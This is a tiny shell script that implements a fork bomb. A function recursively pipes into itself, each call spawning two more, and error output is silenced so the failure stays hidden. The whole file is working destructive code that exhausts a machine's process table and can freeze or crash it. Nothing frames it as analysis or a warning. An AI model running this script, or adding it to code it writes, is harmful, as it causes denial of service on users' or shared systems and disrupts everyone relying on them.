#!/bin/sh
# Each call starts two more of its kind, and none of them says when it cannot.
exec 2>/dev/null
bomb() {
        bomb | bomb
}
bomb
